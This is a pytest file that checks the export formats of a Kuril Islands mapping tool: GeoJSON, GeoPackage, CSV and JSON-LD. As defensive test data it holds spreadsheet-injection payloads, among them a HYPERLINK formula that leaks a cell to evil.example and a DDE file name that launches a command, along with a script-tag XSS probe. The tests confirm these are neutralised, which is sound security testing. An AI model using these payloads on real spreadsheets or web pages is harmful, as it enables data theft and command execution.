"""Data exports: each format reads back in the tools people use, with the same data, byte for byte stable."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
from pathlib import Path
from urllib.parse import unquote

import pytest
import yaml

from explorer.corpus.facts import make_quote
from explorer.data.layers import load_layers
from explorer.evidence import Evidence
from explorer.render import exports

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
DOCS = ROOT / "docs" / "exports.md"
HOSTILE_WHAT = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>'
HOSTILE_FILE = "=cmd|' -C calc'!A0.txt"


@pytest.fixture(scope="module")
def evidence() -> Evidence:
    return Evidence.load()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Evidence:
    """The hostile fixture plus facts and a file name that a spreadsheet would run as a formula."""
    folder = tmp_path_factory.mktemp("hostile-corpus")
    for path in HOSTILE.iterdir():
        shutil.copy(path, folder / path.name)
    text = (HOSTILE / "001_script.txt").read_text(encoding="utf-8")
    (folder / HOSTILE_FILE).write_text("-1+1 @SUM(A1) Iturup\t=2+3 near Kunashir.\n", encoding="utf-8")
    start = text.index("Missiles on Iturup")
    quote = make_quote(text, start, start + len("Missiles on Iturup <img src=x"))
    facts = {
        "version": 1,
        "events": [
            {
                "id": "hostile-event",
                "title": "+Title </script> ${x}",
                "category": "coastal_missile_system",
                "where": ["iturup"],
                "accounts": [
                    {
                        "id": "hostile.001",
                        "file": "001_script.txt",
                        "what": HOSTILE_WHAT,
                        "category": "coastal_missile_system",
                        "where": ["iturup", "kunashir"],
                        "who": "@evil",
                        "status": "deployed",
                        "quote": quote,
                        "note": "-note",
                    }
                ],
            }
        ],
    }
    (folder / "facts.yaml").write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
    return Evidence.load(corpus_folder=folder)


def _documented_columns(section: str) -> list[str]:
    """Column names listed in the table under ``### <section>`` of docs/exports.md, in order."""
    text = DOCS.read_text(encoding="utf-8")
    body = text.split(f"### {section}\n", 1)[1].split("\n#", 1)[0]
    return re.findall(r"^\| `([a-z0-9_]+)` \|", body, flags=re.MULTILINE)


def _read_csv(data: bytes) -> tuple[list[str], list[list[str]]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark (for Excel)"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def _expected_link_row(link) -> list[str]:
    data = link.as_json()
    return [
        "" if data[c] is None else ";".join(data[c]) if c == "flags" else str(data[c]) for c in exports.LINK_COLUMNS
    ]


# --- GeoJSON ----------------------------------------------------------------------------------------


def test_geojson_reads_back_with_geopandas(evidence, tmp_path) -> None:
    import geopandas

    data = exports.geojson_bytes(evidence)
    raw = json.loads(data)
    assert raw["type"] == "FeatureCollection" and "crs" not in raw
    path = tmp_path / "places.geojson"
    path.write_bytes(data)
    frame = geopandas.read_file(path, engine="pyogrio")
    assert frame.crs.to_epsg() == 4326
    layer_ids = [f["id"] for name in ("islands", "region", "sites") for f in load_layers()[name]["features"]]
    assert list(frame["id"]) == layer_ids
    assert frame.geometry.is_valid.all()
    counts = evidence.passage_counts()
    for row in frame.itertuples():
        assert row.passages == counts.get(row.id, 0)
        assert row.mentions == len(evidence.links_for(row.id))
    by_id = {f["id"]: f["properties"] for f in raw["features"]}
    assert by_id["iturup"]["name_ja"] == "択捉島" and by_id["iturup"]["name_ru"] == "Итуруп"
    assert by_id["iturup"]["disputed"] is True and by_id["iturup"]["facts"] >= 1
    assert "Etorofu" in by_id["iturup"]["all_names"]
    assert set(by_id["iturup"]) == set(exports.PLACE_PROPERTIES)


def test_geojson_is_rfc7946(evidence) -> None:
    import shapely
    from shapely.geometry import shape

    data = exports.geojson_bytes(evidence)
    assert "択捉島".encode() in data  # ensure_ascii off
    for number in re.findall(rb"-?\d+\.(\d+)", data.split(b'"geometry"', 1)[1]):
        assert len(number) <= 6
    for feature in json.loads(data)["features"]:
        geometry = shape(feature["geometry"])
        for polygon in getattr(geometry, "geoms", [geometry]):
            if polygon.geom_type == "Polygon":
                assert shapely.is_ccw(polygon.exterior), feature["id"]
                assert not any(shapely.is_ccw(ring) for ring in polygon.interiors), feature["id"]


def test_geojson_columns_are_documented() -> None:
    assert _documented_columns("geojson") == exports.PLACE_PROPERTIES


# --- GeoPackage ---------------------------------------------------------------------------------------


def test_gpkg_reads_back_with_geopandas(evidence, tmp_path) -> None:
    import geopandas
    import pyogrio

    path = exports.write_gpkg(evidence, tmp_path / "kuril.gpkg")
    assert sorted(name for name, _ in pyogrio.list_layers(path)) == ["places", "sites"]
    places = geopandas.read_file(path, layer="places")
    sites = geopandas.read_file(path, layer="sites")
    for frame in (places, sites):
        assert frame.crs.to_epsg() == 4326
        assert frame.geometry.is_valid.all()
        assert list(frame.columns) == [*exports.PLACE_PROPERTIES, "geometry"]
    assert set(places.geom_type) <= {"Polygon", "MultiPolygon"} and set(sites.geom_type) == {"Point"}
    expected = [f["id"] for name in ("islands", "region") for f in load_layers()[name]["features"]]
    assert list(places["id"]) == expected
    counts = evidence.passage_counts()
    assert dict(zip(places["id"], places["passages"], strict=True)) == {pid: counts.get(pid, 0) for pid in expected}
    iturup = places.set_index("id").loc["iturup"]
    assert iturup["name_ja"] == "択捉島" and " | Etorofu" in iturup["all_names"]


def test_gpkg_is_reproducible(evidence, tmp_path) -> None:
    first = exports.gpkg_bytes(evidence)
    assert exports.gpkg_bytes(evidence) == first
    path = tmp_path / "stamped.gpkg"
    exports.write_gpkg(evidence, path, timestamp="2024-05-01T12:00:00.000Z")
    with sqlite3.connect(path) as db:
        stamps = {row[0] for row in db.execute("select last_change from gpkg_contents")}
    assert stamps == {"2024-05-01T12:00:00.000Z"}


# Debian's gdal-bin (GDAL 3.6, as in Debian 12 and many QGIS installs); scripts/test installs it.
OGRINFO = "/usr/bin/ogrinfo"
VALIDATE_GPKG = "/usr/lib/python3/dist-packages/osgeo_utils/samples/validate_gpkg.py"


def test_gpkg_is_version_1_2_and_passes_debian_gdal(evidence, tmp_path) -> None:
    import subprocess

    path = exports.write_gpkg(evidence, tmp_path / "kuril.gpkg")
    with sqlite3.connect(path) as db:
        assert db.execute("pragma application_id").fetchone()[0] == 0x47504B47  # "GPKG"
        assert db.execute("pragma user_version").fetchone()[0] == 10200  # 1.2.0
    info = subprocess.run([OGRINFO, "-so", "-al", str(path)], capture_output=True, text=True, timeout=120)
    assert info.returncode == 0, info.stderr
    assert "GDAL 3." in subprocess.run([OGRINFO, "--version"], capture_output=True, text=True).stdout
    assert "Warning" not in info.stderr and "partially supported" not in info.stderr, info.stderr
    assert "Layer name: places" in info.stdout and "Layer name: sites" in info.stdout
    check = subprocess.run(["/usr/bin/python3", VALIDATE_GPKG, str(path)], capture_output=True, text=True, timeout=120)
    assert check.returncode == 0 and not check.stdout.strip() and not check.stderr.strip(), check


# --- CSV ------------------------------------------------------------------------------------------------


def test_csv_links_round_trip(evidence) -> None:
    header, rows = _read_csv(exports.csv_links_bytes(evidence))
    assert header == exports.LINK_COLUMNS == _documented_columns("csv-links")
    assert [[exports.csv_cell_value(c) for c in row] for row in rows] == [_expected_link_row(l) for l in evidence.links]


def test_csv_facts_match_the_facts(evidence) -> None:
    header, rows = _read_csv(exports.csv_facts_bytes(evidence))
    assert header == exports.FACT_COLUMNS == _documented_columns("csv-facts")
    accounts = evidence.facts.accounts()
    assert len(rows) == len(accounts) > 0
    for row, (event, account) in zip(rows, accounts, strict=True):
        cells = dict(zip(header, [exports.csv_cell_value(c) for c in row], strict=True))
        assert cells["id"] == account.id and cells["event"] == event.id
        assert cells["where"] == ";".join(account.where)
        assert cells["quote"] == account.quote.exact and int(cells["start"]) == account.quote.start
        assert cells["count"] == ("" if account.count is None else str(account.count))


def test_csv_facts_follow_the_filter(evidence) -> None:
    one = sorted(evidence.files)[0]
    _, rows = _read_csv(exports.csv_facts_bytes(evidence.filtered(files={one})))
    assert rows and {row[exports.FACT_COLUMNS.index("file")] for row in rows} == {one}


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("'=1", "''=1"),
        ("''", "''"),
        ("'quoted'", "'quoted'"),
        ("a=1", "a=1"),
        ("", ""),
        ("択捉島", "択捉島"),
    ],
)
def test_formula_cells_are_defused_and_reversible(value, cell) -> None:
    assert exports.csv_safe(value) == cell
    assert exports.csv_cell_value(cell) == value


def test_hostile_csv_has_no_formula_and_keeps_the_text(hostile) -> None:
    for data in (exports.csv_links_bytes(hostile), exports.csv_facts_bytes(hostile)):
        _, rows = _read_csv(data)
        assert rows
        for row in rows:
            for cell in row:
                assert not cell.startswith(exports.FORMULA_TRIGGERS), cell
    _, rows = _read_csv(exports.csv_links_bytes(hostile))
    assert [[exports.csv_cell_value(c) for c in row] for row in rows] == [_expected_link_row(l) for l in hostile.links]
    assert any(row[0] == "'" + HOSTILE_FILE for row in rows)
    header, rows = _read_csv(exports.csv_facts_bytes(hostile))
    facts = dict(zip(header, [exports.csv_cell_value(c) for c in rows[0]], strict=True))
    assert facts["what"] == HOSTILE_WHAT  # data, not markup: no HTML escaping
    assert facts["who"] == "@evil" and facts["title"] == "+Title </script> ${x}"
    assert "<img src=x" in facts["quote"]


# --- JSON-LD ----------------------------------------------------------------------------------------------


def _check_annotations(evidence: Evidence, data: bytes) -> list[dict]:
    collection = json.loads(data)
    assert collection["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert collection["type"] == "AnnotationCollection"
    page = collection["first"]
    assert page["type"] == "AnnotationPage" and page["partOf"]["id"] == collection["id"]
    assert page["partOf"]["total"] == collection["total"]
    items = page["items"]
    assert collection["total"] == len(items) == len(evidence.links) + len(exports.fact_rows(evidence))
    assert len({item["id"] for item in items}) == len(items)
    for item in items:
        assert item["type"] == "Annotation"
        assert item["creator"]["type"] in ("Software", "Organization") and item["creator"]["name"]
        assert item["created"] == collection["created"]
        source = item["target"]["source"]
        # A relative URL to the text written beside the export (no article here has a URL).
        assert source.startswith(exports.ARTICLES_DIR + "/") and "/" not in source[len(exports.ARTICLES_DIR) + 1 :]
        text = evidence.corpus.document(unquote(source.rsplit("/", 1)[1])).text
        quote_sel, position = item["target"]["selector"]
        assert quote_sel["type"] == "TextQuoteSelector" and position["type"] == "TextPositionSelector"
        start, end = position["start"], position["end"]
        assert text[start:end] == quote_sel["exact"]
        assert text[max(0, start - len(quote_sel["prefix"])) : start] == quote_sel["prefix"]
        assert text[end : end + len(quote_sel["suffix"])] == quote_sel["suffix"]
        assert len(quote_sel["prefix"]) <= 32 and len(quote_sel["suffix"]) <= 32
        purposes = {body.get("purpose") for body in item["body"]}
        if item["motivation"] == "identifying":
            assert {"identifying", "tagging"} <= purposes and item["creator"]["type"] == "Software"
            assert item["body"][0]["source"].startswith("urn:kuril-explorer:place:")
        else:
            assert item["motivation"] == "describing" and "describing" in purposes
            assert item["creator"]["type"] == "Organization"
    return items


def test_jsonld_selectors_resolve(evidence) -> None:
    data = exports.jsonld_bytes(evidence, created="2024-05-01T00:00:00Z")
    items = _check_annotations(evidence, data)
    assert any(item["motivation"] == "describing" for item in items)
    assert data.count(b'"created":"2024-05-01T00:00:00Z"') == len(items)


def test_jsonld_created_defaults_to_now_or_source_date_epoch(evidence, monkeypatch) -> None:
    import datetime as dt

    created = json.loads(exports.jsonld_bytes(evidence))["created"]
    moment = dt.datetime.strptime(created, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=dt.UTC)
    assert abs((dt.datetime.now(dt.UTC) - moment).total_seconds()) < 600
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    assert json.loads(exports.jsonld_bytes(evidence))["created"] == "2023-11-14T22:13:20Z"


def test_jsonld_targets_open_beside_the_export(evidence, tmp_path) -> None:
    """Every target resolves, relative to the written file, to a text holding the quoted passage."""
    from urllib.parse import urljoin
    from urllib.request import url2pathname

    written = exports.export(evidence, "jsonld", tmp_path / "report.jsonld")
    assert [p.name for p in written] == ["report.jsonld", "report-articles"]
    items = json.loads(written[0].read_text(encoding="utf-8"))["first"]["items"]
    base = written[0].as_uri()
    for item in items:
        target = urljoin(base, item["target"]["source"])
        text = Path(url2pathname(target.removeprefix("file://"))).read_text(encoding="utf-8")
        position = item["target"]["selector"][1]
        assert text[position["start"] : position["end"]] == item["target"]["selector"][0]["exact"]


def test_jsonld_uses_the_article_url_when_known(tmp_path) -> None:
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "a.txt").write_text("Troops on Iturup.", encoding="utf-8")
    (folder / "sources.yaml").write_text(
        "version: 1\narticles:\n- file: a.txt\n  url: https://news.example/iturup\n", encoding="utf-8"
    )
    items = json.loads(exports.jsonld_bytes(Evidence.load(folder)))["first"]["items"]
    assert items and {item["target"]["source"] for item in items} == {"https://news.example/iturup"}


STREAM_PROBE = """
import resource, sys
from pathlib import Path
from explorer.evidence import Evidence
from explorer.render import exports
evidence = Evidence.load(Path(sys.argv[1]))
assert len(evidence.links) == 650_000
loaded = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
exports.write_jsonld(evidence, Path(sys.argv[2]), created="2024-05-01T00:00:00Z")
print(loaded, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def test_jsonld_streams_in_bounded_memory(tmp_path) -> None:
    """A 4.5 MB article naming Iturup 650,000 times: its JSON-LD (650,000 annotations, about 460 MB)
    is written one annotation at a time, so the process's peak memory grows by under 50 MB over what
    the loaded evidence already holds (building the whole document first took gigabytes)."""
    import subprocess
    import sys

    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "sources.yaml").write_text("version: 1\narticles: []\n", encoding="utf-8")
    (folder / "big.txt").write_text("Iturup " * 650_000, encoding="utf-8")
    out = tmp_path / "big.jsonld"
    result = subprocess.run(
        [sys.executable, "-c", STREAM_PROBE, str(folder), str(out)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr
    loaded_kb, peak_kb = map(int, result.stdout.split())
    assert out.stat().st_size > 400_000_000
    assert peak_kb - loaded_kb < 50_000, (loaded_kb, peak_kb)
    with open(out, encoding="utf-8") as handle:
        assert handle.read(60).startswith('{"@context": "http://www.w3.org/ns/anno.jsonld"')
        handle.seek(out.stat().st_size - 10)
        assert handle.read().endswith("]}}\n")


def test_hostile_jsonld_round_trips(hostile) -> None:
    data = exports.jsonld_bytes(hostile)
    items = _check_annotations(hostile, data)
    fact = next(item for item in items if item["motivation"] == "describing")
    assert fact["body"][0]["value"].startswith(HOSTILE_WHAT)
    assert "<img src=x" in fact["target"]["selector"][0]["exact"]
    assert any(unquote(item["target"]["source"]).endswith(HOSTILE_FILE) for item in items)


# --- All formats ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", list(exports.FORMATS))
def test_every_format_is_deterministic_and_writes_its_file(evidence, hostile, fmt, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")  # JSON-LD's `created`; fixed for the comparison
    assert exports.export_bytes(evidence, fmt) == exports.export_bytes(evidence, fmt)
    written = exports.export(evidence, fmt, tmp_path / f"kuril-explorer{exports.FORMATS[fmt][0]}")
    assert len(written) == (2 if fmt == "jsonld" else 1)
    assert written[0].read_bytes() == exports.export_bytes(evidence, fmt)
    (tmp_path / "folder").mkdir()
    inside = exports.export(hostile, fmt, tmp_path / "folder")
    assert inside[0].parent == tmp_path / "folder" and inside[0].stat().st_size > 0
    assert f"`{fmt}`" in DOCS.read_text(encoding="utf-8")


def test_export_all_and_unknown_format(evidence, tmp_path) -> None:
    written = exports.export(evidence, "all", tmp_path / "all")
    assert sorted(p.name for p in written) == sorted(
        [f"kuril-explorer{v[0]}" for v in exports.FORMATS.values()] + [exports.ARTICLES_DIR]
    )
    with pytest.raises(ValueError, match="unknown export format"):
        exports.export(evidence, "xlsx", tmp_path / "x.xlsx")
    with pytest.raises(ValueError, match="unknown export format"):
        exports.export_bytes(evidence, "xlsx")


def test_any_text_survives_the_csv_round_trip() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    @settings(max_examples=300, deadline=None)
    @given(st.lists(st.text(), min_size=1, max_size=4))
    def check(values: list[str]) -> None:
        data = exports._csv([f"c{i}" for i in range(len(values))], [{f"c{i}": v for i, v in enumerate(values)}])
        _, rows = _read_csv(data)
        assert [exports.csv_cell_value(cell) for cell in rows[0]] == values
        assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for cell in rows[0])

    check()
